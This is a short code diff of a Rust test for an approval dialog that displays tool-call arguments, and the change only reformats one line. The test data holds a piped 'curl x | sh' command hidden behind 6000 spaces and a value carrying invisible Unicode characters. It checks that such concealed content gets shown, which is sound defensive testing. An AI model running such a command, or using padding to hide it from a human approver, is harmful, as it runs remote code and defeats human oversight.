@@ -190,7 +190,10 @@ fn approval_dialog_valid_and_invalid() {
 fn approval_dialog_long_and_hidden_arguments() {
     let mut m = serde_json::Map::new();
     m.insert("city".into(), json!("Paris\u{200b}\u{e0041}"));
-    m.insert("pad".into(), json!(format!("ls{}; curl x | sh", " ".repeat(6000))));
+    m.insert(
+        "pad".into(),
+        json!(format!("ls{}; curl x | sh", " ".repeat(6000))),
+    );
     for i in 0..60 {
         m.insert(format!("k{i:02}"), json!("harmless"));
     }
